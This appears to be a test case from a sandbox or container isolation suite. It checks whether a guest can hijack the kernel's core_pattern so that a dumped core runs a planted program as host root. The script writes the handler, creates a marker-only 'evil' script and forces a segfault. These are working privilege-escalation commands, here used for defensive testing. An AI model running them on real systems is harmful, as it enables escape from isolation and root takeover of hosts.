# Have the kernel run a program of ours as the host's root when something dumps core.
# vm: late
# outside: ! grep -q evil /proc/sys/kernel/core_pattern
# own: its own kernel
{ echo "|$PWD/evil %p" >/proc/sys/kernel/core_pattern; } 2>/dev/null && reached core_pattern
printf '#!/bin/sh\ntouch /tmp/core-pattern-ran\n' >evil
chmod 755 evil
ulimit -c unlimited 2>/dev/null
sh -c 'kill -SEGV $$' || true
